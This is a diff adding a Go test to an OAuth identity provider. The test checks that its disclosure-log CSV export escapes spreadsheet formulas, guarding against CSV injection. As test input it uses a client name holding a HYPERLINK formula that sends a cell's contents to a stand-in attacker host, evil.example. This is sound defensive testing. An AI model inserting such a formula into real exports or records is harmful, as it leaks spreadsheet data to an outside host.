@@ -2,6 +2,7 @@ package app_test
 
 import (
 	"context"
+	"encoding/csv"
 	"net/http"
 	"net/url"
 	"strings"
@@ -11,6 +12,7 @@ import (
 	"golang.org/x/oauth2"
 
 	"github.com/dinhdanh/dinhdanh/cmd/dinhdanh/app"
+	"github.com/dinhdanh/dinhdanh/provider"
 )
 
 // tlsProxy plays the TLS-terminating load balancer in front of an https
@@ -184,5 +186,35 @@ func TestHTTPIssuerKeepsPlainCookiesWithoutHSTS(t *testing.T) {
 	}
 	if !got["dd_csrf"] || !got["dd_browser"] {
 		t.Errorf("cookies over http: %v", got)
+	}
+}
+
+// The disclosure log's CSV never hands a spreadsheet a formula: a relying
+// party named "=HYPERLINK(…)" is written with a leading quote (OWASP CSV
+// Injection).
+func TestDisclosureCSVNeutralisesFormulas(t *testing.T) {
+	e := newEnv(t)
+	name := `=HYPERLINK("http://evil.example/?"&A1,"Xem")`
+	id, secret := e.registerClient(provider.ClientSpec{ID: "formula-rp", Name: name, RedirectURIs: []string{rpCallback},
+		Scopes: []string{"openid", "profile"}})
+	e.useClient(id, secret, "openid", "profile")
+	b, tok, _ := e.fullLogin()
+	if _, err := e.provider.UserInfo(e.ctx, oauth2.StaticTokenSource(tok)); err != nil {
+		t.Fatal(err)
+	}
+	b.get(e.issuer + "/account/disclosures.csv")
+	rows, err := csv.NewReader(strings.NewReader(b.body)).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("CSV (%v):\n%s", err, b.body)
+	}
+	if got := rows[1][2]; got != "'"+name {
+		t.Errorf("client_name cell %q, want the name behind a quote", got)
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q starts a formula", cell)
+			}
+		}
 	}
 }
